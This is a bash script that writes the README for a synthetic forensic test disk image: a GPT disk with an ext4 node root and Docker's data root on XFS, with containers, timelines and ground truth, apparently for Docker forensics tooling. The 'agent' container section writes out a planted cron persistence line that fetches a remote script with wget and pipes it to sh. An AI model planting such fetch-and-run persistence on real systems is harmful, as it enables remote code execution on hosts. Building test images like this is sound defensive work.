# shellcheck shell=bash
# Writes $OUT/README.md for image d (sourced by node-d.sh at the end; uses its variables).

ctr_row() {
    local n=$1 id st img
    id=$(awk -F'\t' -v n="$n" '$1 == n {print $2}' "$T/containers.tsv")
    st=$(awk -F'\t' -v n="$n" '$1 == n {print $3}' "$T/containers.tsv")
    img=$(jq -r '.[0].Config.Image' "$T/inspect/$n.json")
    printf '| `%s` | `%s` | %s | %s |' "$n" "$id" "$st" "$img"
}
timeline() {
    local n
    for n in "${CTRS[@]}"; do
        jq -r --arg n "$n" '.[0] | [$n, .Created, .State.StartedAt, .State.FinishedAt, (.State.ExitCode|tostring)] | @tsv' \
            "$T/inspect/$n.json"
    done | sort -t$'\t' -k2,2 | awk -F'\t' '{printf "| `%s` | %s | %s | %s | %s |\n", $1, $2, $3, $4, $5}'
}
lv() { sed -n "s/^$1=//p" "$T/layout.txt"; }

cat >"$OUT/README.md" <<EOF
# node-d-split-docker — GPT, ext4 node root + Docker's data root on its own XFS partition

Made by \`scripts/make-testimages.sh d\` (driver: \`scripts/testimg/node-d.sh\`) on
$(cat "$T/imaging-time.txt") (imaging time, UTC), on kernel $(uname -r), with dockerd
$ENGINE_VERSION (Debian docker.io; docker CLI $CLI_VERSION for the truth), containerd $CONTAINERD_VERSION,
runc $RUNC_VERSION, $(mke2fs -V 2>&1 | head -n 1), $(mkfs.xfs -V).
The method is the same as for \`node-a-ext4-gpt\` (read its README.md): dockerd chrooted in the
node root, own PID and UTS namespaces (host name \`node-d\`), \`--bridge=none\`, \`--network none\`
containers, workloads in each container's own command, truth captured by Docker's CLI, then
\`sync; fsfreeze -f\` (**both** file systems: p2 first, then p1) + \`cp --sparse=always\` of the whole
disk while dockerd and the containers run. Nothing was removed on this node.

## Files

| file | bytes | what |
|---|---|---|
| \`disk.raw.xz\` | $(stat -c %s "$OUT/disk.raw.xz") | the raw disk ($(cat "$T/disk-size-bytes.txt") bytes), \`xz -9 -T2\` |
| \`disk.sha256\`, \`disk.md5\` | | hashes of the raw (decompressed) disk |
| \`truth/\` | | ground truth (node-a's files and formats, plus the p2-relative files below) |

No E01 and no split raw are stored.

## Disk layout

GPT (sfdisk), $DISK_MIB MiB disk (disk GUID \`$(lv disk_guid)\`), two partitions, both of type Linux file system
(\`0FC63DAF-8483-4772-8E79-3D69D8477DE4\`):

| | GPT name | start sector | byte offset | sectors | bytes | file system | UUID | label | mounted on the node at |
|---|---|---|---|---|---|---|---|---|---|
| p1 | \`$(lv partition1_name)\` | **$P1_START** | **$P1_OFF** | $P1_SECTORS | $P1_LEN | ext4 ($(lv fs1_block_size)-byte blocks, $(lv fs1_inode_size)-byte inodes) | \`$FS1_UUID\` | \`$(lv fs1_label)\` | \`/\` |
| p2 | \`$(lv partition2_name)\` | **$P2_START** | **$P2_OFF** | $P2_SECTORS | $P2_LEN | XFS ($(lv fs2_block_size)-byte blocks, $(lv fs2_inode_size)-byte inodes) | \`$FS2_UUID\` | \`$(lv fs2_label)\` | \`$P2_MNT\` |

Partition GUIDs: p1 \`$(lv partition1_guid)\`, p2 \`$(lv partition2_guid)\`.
p1: \`mkfs.ext4 -T default -L node-root\` (Debian 12 defaults, 4 KiB blocks). p2: \`mkfs.xfs -L docker\`
(xfsprogs defaults: crc, finobt, sparse inodes, reflink, bigtime, inobtcount, ftype=1).
The node's \`/etc/fstab\` (on p1) mounts p1 at \`/\` and **p2 at \`$P2_MNT\`** by UUID:

\`\`\`
$(cat "$W/fstab.copy")
\`\`\`

\`truth/layout.txt\` has all of this as \`key=value\` lines (\`partition1_offset_bytes\`, \`partition2_offset_bytes\`,
\`partitionN_length_bytes\`, \`partitionN_name\`, \`partitionN_guid\`, \`fs1_type\`, \`fs1_uuid\`, \`fs1_label\`,
\`fs2_type\`, \`fs2_uuid\`, \`fs2_label\`, \`fsN_block_size\`, \`fsN_node_mountpoint\`, ...), then \`sfdisk --dump\`,
\`mmls\`, \`dumpe2fs -h\` and \`e2fsck -fn\` of p1, \`xfs_info\`, the XFS superblock and \`xfs_repair -n\` of p2.

### What an offline reader sees

* **p1** is the node's root: \`/etc\` (hostname \`node-d\`, passwd, shadow, fstab, crontab, \`cron.d/\`,
  \`docker/daemon.json\`, ...), \`/root\`, \`/home/admin\`, \`/var/log\` (incl. dockerd's \`/var/log/docker.log\`).
  Its \`/var/lib/docker\` is an **empty directory** (mode 0710; \`truth/stat-p1-mountpoint.tsv\` has its
  stat as p1 alone shows it): the mount point. No Docker file is on p1, except what a container
  wrote through a host bind mount (\`/etc/cron.d/job\`, see agent).
* **p2** is Docker's data root as a file system of its own. Its top level is what is below
  \`$P2_MNT\` on the node: $(sed -n '/^# ls -A of p2/,/^$/p' "$T/xfs-sanity.txt" | grep -v '^#' | grep . | sed 's#.*#`/&`#' | paste -sd' ')
  (\`ls -A\` of p2's root, \`truth/xfs-sanity.txt\`; p2's root is the XFS root inode, mode 0710).
  A reader has to associate p2 with \`$P2_MNT\` through p1's \`/etc/fstab\` (UUID), or recognise the
  layout of a Docker data root at the top of a file system.
* Paths inside Docker's own files are **node paths**: \`LogPath\` in config.v2.json,
  \`GraphDriver.Data\` in \`docker inspect\`, etc. name \`$P2_MNT/...\`, which on the disk is p2's
  \`/...\`.

## Ground truth (\`truth/\`) and its paths

Same files and formats as node-a (\`containers.tsv\`, \`ps.*\`, \`inspect/\`, \`diff/\`, \`logs/\`, \`images*\`,
\`image-inspect/\`, \`history/\`, \`volumes.*\` (no volumes: \`[]\`), \`engine.txt\`, \`stat.tsv\` and \`xattrs.tsv\`
taken while frozen, \`files.sha256\`, \`paths.tsv\`, \`layout.txt\`, \`tsk-sanity.txt\`, \`imaging-time.txt\`,
\`disk-size-bytes.txt\`; \`removed-files.sha256\` is empty).

* **\`stat.tsv\`, \`xattrs.tsv\`, \`files.sha256\`, \`paths.tsv\` use paths as seen on the NODE** (both file
  systems mounted): \`/etc/cron.d/job\` is on p1, \`$P2_MNT/containers/<id>/config.v2.json\` is on p2.
  The inode numbers in \`stat.tsv\` are those of the file system the path is on (\`$P2_MNT\` itself is
  p2's root directory, XFS inode $(awk -F'\t' -v p="$P2_MNT" '$1 == p {print $2}' "$T/stat.tsv")).
* **Separate p2-relative files** (paths relative to p2's own root, as an offline reader that opens
  p2 as a file system sees them; same columns/format; only the entries that are on p2):
  \`stat-p2.tsv\` (e.g. \`/containers/<id>/config.v2.json\`; p2's root is \`/\`), \`xattrs-p2.tsv\`,
  \`files-p2.sha256\`, \`paths-p2.tsv\`.
* \`stat-p1-mountpoint.tsv\`: the empty \`$P2_MNT\` directory of p1 (under the mount).
* \`xfs-sanity.txt\`: p1 mounted \`ro,noload\` + p2 mounted \`ro,norecovery\` over its \`$P2_MNT\`, \`ls\` of
  p2's root and \`containers/\`, \`sha256sum -c\` of \`files.sha256\` (node paths) and \`files-p2.sha256\`.

Checks run on the snapshot: \`mmls\` shows both partitions; \`fls -r -p -o $P1_START\` reads p1 (lists
\`etc/cron.d/job\`, nothing below \`var/lib/docker/\`); \`fls -o $P2_START\` fails: TSK $(fls -V | awk '{print $NF}')
has no XFS support (\`tsk-sanity.txt\`). \`e2fsck -fn\` on p1: clean. \`xfs_repair -n\` on p2 of the
snapshot: $(sed -n '/^# xfs_repair -n (partition 2 of the snapshot/,/^# xfs_repair -n on a copy/p' "$T/layout.txt" | grep -q 'valuable metadata changes in a log' && echo 'reports "valuable metadata changes in a log" (the XFS log is not clean in a live snapshot, as in node-b; the metadata needed to read every file is in place without replay, see xfs-sanity.txt)' || echo 'no log to replay')
and, on a copy of p2 after a mount + umount (log replayed), clean (\`layout.txt\`, last section).

## Engine configuration

\`/etc/docker/daemon.json\`: json-file, \`max-size=10m, max-file=3\`; **no \`data-root\`** (the default
\`$P2_MNT\` is where p2 is mounted). Images: \`husk/base:1.0\` (import) and \`husk/web:2.3\` (legacy
build, its first RUN layer holds the \`/etc/issue\` whiteout made by dockerd), as in node-a.

## Containers

| name | id | state at imaging | image |
|---|---|---|---|
$(for n in "${CTRS[@]}"; do ctr_row "$n"; echo; done)

Upper dirs: \`truth/paths.tsv\` (node paths) and \`truth/paths-p2.tsv\` (p2 paths).

* **init** (exited 0, \`husk/base:1.0\`, labels \`app=web role=init\`): writes \`/etc/app/runtime.conf\` and
  \`/init-done\` in its layer; 2 stdout lines, 1 stderr line.
* **web** (running, \`husk/web:2.3\`, hostname \`web-d1\`, labels \`app=web tier=frontend\`): 120 access lines
  (stdout), an error line every 40th (stderr); deletes \`/srv/www/index.html\` (from the image's RUN
  layer): **whiteout** (char 0/0) in the upper dir; \`rm -rf /opt/legacy\` and recreates it with a new
  \`legacy.conf\` (\`HUSK-D-OPAQUE\`): **opaque directory** (\`trusted.overlay.opaque=y\` on XFS,
  \`truth/xattrs.tsv\` / \`xattrs-p2.tsv\`); adds \`/srv/www/drop.php\`; then runs busybox httpd.
* **agent** (running, \`husk/base:1.0\`, label \`app=agent\`, \`--restart unless-stopped\`, **\`-v /:/host\`**):
  writes **\`/host/etc/cron.d/job\`** (\`*/5 * * * * root ... wget -q -O- http://198.51.100.23/j.sh | sh\`):
  that file is on **p1** (node path \`/etc/cron.d/job\`), not in any container layer; lists
  \`/host/var/lib/docker\` (p2, through the recursive bind mount) in its log; writes \`/tmp/agent.state\`
  in its own layer (p2). Its upper dir also has the \`/host\` mount point directory.

### Timeline (from \`docker inspect\`, UTC)

| name | Created | StartedAt | FinishedAt | ExitCode |
|---|---|---|---|---|
$(timeline)

Imaging (fsfreeze) at $(cat "$T/imaging-time.txt").

## Deviations from a production node

As node-a: a chroot rather than a booted system (\`/usr\` and \`/run\` empty on p1), no registry, no
networking. p2 was mounted inside the chroot at \`$P2_MNT\` by the build script (not by a boot-time
fstab mount), with default mount options.
EOF
